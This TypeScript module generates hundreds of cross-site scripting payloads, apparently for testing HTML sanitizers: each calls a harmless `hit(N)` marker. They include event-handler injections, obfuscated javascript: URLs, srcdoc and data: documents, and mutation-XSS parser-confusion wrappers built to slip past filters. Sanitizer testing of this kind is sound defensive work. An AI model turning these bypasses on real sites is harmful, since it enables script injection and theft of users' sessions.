/** Attacks on a page by markup: each tries to run its code, `hit(N)`, in whatever way a browser knows. */

/** Attacks that need no more than to be read, with their code in place. */
type Attack = (code: string) => string;

const QUOTES: ((code: string) => string)[] = [
  (code) => `="${code}"`,
  (code) => `='${code}'`,
  (code) => `=${code}`,
  (code) => ` \n=\t"${code}"`,
  (code) => `="${entities(code)}"`,
];

const entities = (text: string) =>
  Array.from(text, (sign) => `&#x${sign.charCodeAt(0).toString(16)};`).join("");

/** Handlers by the elements that fire them, by themselves or when somebody touches them. */
const HANDLERS: [tag: string, attributes: string, events: string[]][] = [
  ["img", "src=x:", ["onerror", "onclick", "onpointerenter"]],
  ["img", 'src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA="', ["onload"]],
  ["svg", "", ["onload", "onclick"]],
  ["body", "", ["onload", "onpageshow", "onclick"]],
  ["video", "src=x:", ["onerror", "onclick"]],
  ["audio", "src=x:", ["onerror"]],
  ["video><source", "src=x:", ["onerror"]],
  ["details", "open", ["ontoggle"]],
  ["input", "autofocus", ["onfocus", "onclick", "onblur"]],
  ["input type=image", "src=x:", ["onerror"]],
  ["button", "", ["onclick", "onfocus"]],
  ["select", "autofocus", ["onfocus", "onchange"]],
  ["textarea", "autofocus", ["onfocus"]],
  ["iframe", "src=about:blank", ["onload"]],
  ["object", "data=x:", ["onerror"]],
  ["embed", "src=about:blank", ["onload"]],
  ["link", "rel=stylesheet href=x:", ["onerror"]],
  ["style", "", ["onload"]],
  ["script", "src=x:", ["onerror"]],
  ["a", "href=#", ["onclick", "onmouseover", "onfocus"]],
  ["p", "tabindex=1", ["onclick", "onmouseover", "onkeydown", "oncopy", "ondrag", "onwheel"]],
  ["b", "contenteditable", ["onbeforeinput", "onpaste"]],
  ["div", "style=animation-name:x", ["onanimationstart", "onscroll"]],
  ["table", "", ["onclick"]],
  ["td", "", ["onclick"]],
  ["form", "", ["onsubmit", "onreset"]],
  ["marquee", "", ["onstart", "onclick"]],
  ["dialog", "open", ["onclose", "onclick"]],
  ["x-evil", "", ["onclick", "onfocus"]],
  ["math", "", ["onclick"]],
  ["h1", "", ["onclick"]],
  ["ul><li", "", ["onclick"]],
  ["time", "", ["onclick"]],
  ["blockquote", "", ["onpointerdown"]],
];

const handlers: Attack[] = HANDLERS.flatMap(([tag, attributes, events], element) =>
  events.flatMap((event, which) =>
    [0, 1].map((turn): Attack => {
      const quoted = QUOTES[(element + which + turn * 2) % QUOTES.length] ?? QUOTES[0];
      const name = turn === 0 ? event : event.toUpperCase();
      const space = turn === 0 ? " " : (element + which) % 2 === 0 ? "\n" : "\f";
      return (code) => `<${tag}${space}${attributes}${space}${name}${quoted?.(code)}>x`;
    }),
  ),
);

/** Spellings of a scheme that runs what follows. */
const SCHEMES: ((code: string) => string)[] = [
  (code) => `javascript:${code}`,
  (code) => `JaVaScRiPt:${code}`,
  (code) => ` \u0001javascript:${code}`,
  (code) => `java\nscript:${code}`,
  (code) => `java&#x09;script:${code}`,
  (code) => `javascript&colon;${code}`,
  (code) => entities(`javascript:${code}`),
  (code) => `javascript://a.example/%0a${code}`,
];

/** Places that open an address. */
const OPENERS: ((address: string) => string)[] = [
  (address) => `<a href="${address}">x</a>`,
  (address) => `<a href='${address}' rel=noopener title=x>x</a>`,
  (address) => `<svg><a href="${address}"><text y=9>x</text></a></svg>`,
  (address) => `<svg><a xlink:href="${address}"><text y=9>x</text></a></svg>`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<form action="${address}"><button>x</button></form>`,
  (address) => `<form><button formaction="${address}">x</button></form>`,
  (address) => `<map name=m><area href="${address}" shape=default></map><img usemap=#m>`,
  (address) => `<svg><a><animate attributeName=href values="${address}"/><text y=9>x</text></a></svg>`,
  (address) => `<p><a href="https://a.example/"><a href="${address}">x</a></p>`,
];

const addresses: Attack[] = OPENERS.flatMap((opener) =>
  SCHEMES.map(
    (scheme): Attack =>
      (code) =>
        opener(scheme(`top.${code}`)),
  ),
);

/** What a document of its own would do. */
const documents: Attack[] = [
  (code) => `<iframe srcdoc="<script>top.${code}</script>"></iframe>`,
  (code) => `<iframe srcdoc="${entities(`<script>top.${code}</script>`)}"></iframe>`,
  (code) =>
    `<iframe srcdoc='<img src=x: onerror=top.${code}>' src="https://www.youtube.com/embed/abcdefghijk"></iframe>`,
  (code) => `<iframe src="data:text/html,<script>${posted(code)}</script>"></iframe>`,
  (code) => `<object data="data:text/html,<script>${posted(code)}</script>"></object>`,
  (code) => `<embed src="data:text/html,<script>${posted(code)}</script>">`,
  (code) => `<meta http-equiv=refresh content="0;url=data:text/html,<script>${posted(code)}</script>">`,
];

/** From an origin that may not call: the page listens for messages. */
const posted = (code: string) => `top.postMessage(${/\d+/.exec(code)?.[0]},'*')`;

/** What comes to life only where a parser disagrees with another, or reads its own writing again. */
const CORES: Attack[] = [
  (code) => `<img src=x: onerror=${code}>`,
  (code) => `<details open ontoggle=${code}>`,
];

const WRAPPERS: ((core: string) => string)[] = [
  (core) => core,
  (core) => `<p>before ${core} after`,
  (core) => `<script>/*</script>${core}*/`,
  (core) => `<img """>${core}">`,
  (core) => `<a title="</a>${core}">x</a>`,
  (core) => `<noscript><p title="</noscript>${core}">`,
  (core) => `<textarea><p title="</textarea>${core}">`,
  (core) => `<title><p title="</title>${core}">`,
  (core) => `<style><p title="</style>${core}">`,
  (core) => `<xmp><p title="</xmp>${core}">`,
  (core) => `<iframe><p title="</iframe>${core}">`,
  (core) => `<noembed><p title="</noembed>${core}">`,
  (core) => `<!--><p title="-->${core}">`,
  (core) => `<!--${core}--!>${core}-->`,
  (core) => `<![CDATA[${core}]]>`,
  (core) => `<?php ${core} ?>`,
  (core) => `<svg></p><style><a id="</style>${core}">`,
  (core) => `<svg><style><!--</style>${core}-->`,
  (core) => `<svg><foreignObject>${core}</foreignObject></svg>`,
  (core) => `<svg><desc>${core}</desc></svg>`,
  (core) => `<svg><title><style><!--</style>${core}`,
  (core) => `<math><mtext>${core}</mtext></math>`,
  (core) => `<math><annotation-xml encoding="text/html">${core}</annotation-xml></math>`,
  (core) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${core.replaceAll("<", "&lt;").replaceAll(">", "&gt;")}">`,
  (core) => `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>${core}">`,
  (core) =>
    `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style>${core}"></style></h1>`,
  (core) => `<table><tr>${core}<td>x`,
  (core) => `<select><option>${core}</select>`,
  (core) => `<template>${core}</template>${core}`,
  (core) => `<ul><li><b>${core}`,
  (core) => `<div id=1><p>${core}<div></p></div>`,
  (core) => `${"<div>".repeat(300)}${core}`,
  (core) => `<x-b ${core}>${core}</x-b>`,
  (core) => `<object>${core}`,
  (core) => `<video>${core}</video>`,
  (core) => `<iframe/>${core}`,
  (core) => `<label>${core}`,
  (core) => `<p id='"><!--'>${core}`,
  (core) => core.replace("<", "<\u0000"),
  (core) => core.replace(/\w+/, (name) => name.toUpperCase()),
  (core) => core.replace(" ", "/"),
  (core) => core.replace(" ", "\f"),
  (core) => `<${core}`,
  (core) => core.replace(/>$/, "//"),
  (core) => core.replace(/>$/, "\n<p>"),
  (core) => core.replaceAll("<", "&lt;"),
  (core) => core.replaceAll("<", "&amp;lt;"),
  (core) => core.replaceAll("<", "＜"),
  (core) => `<scr<script>ipt>${core}</scr</script>ipt>`,
];

const wrapped: Attack[] = WRAPPERS.flatMap((wrap) =>
  CORES.map(
    (core): Attack =>
      (code) =>
        wrap(core(code)),
  ),
);

const scripts: Attack[] = [
  (code) => `<script>${code}</script>`,
  (code) => `<SCRIPT>${code}</SCRIPT >`,
  (code) => `<script/x>${code}</script/x>`,
  (code) => `<svg><script>${code}</script></svg>`,
  (code) => `<svg><script href="data:,${code}"/></svg>`,
  (code) => `<script src="data:,${code}"></script>`,
  (code) => `<script type=module>${code}</script>`,
  (code) => `<svg><set attributeName=onmouseover to=${code} onbegin=${code}></svg>`,
  (code) => `<svg><animate onbegin=${code} attributeName=x dur=1s>`,
  (code) =>
    `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=x: onerror=${code} /></svg>#x"/></svg>`,
  (code) => `<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=${code}>x</b>`,
  (code) => `<style>*{transition:color 1ms}</style><b style=color:red ontransitionend=${code}>x</b>`,
];

const ATTACKS = [...scripts, ...handlers, ...addresses, ...documents, ...wrapped];

/** Returns the attacks; the code of each calls `hit` with its index. */
export const payloads = (): string[] => ATTACKS.map((attack, index) => attack(`hit(${index})`));
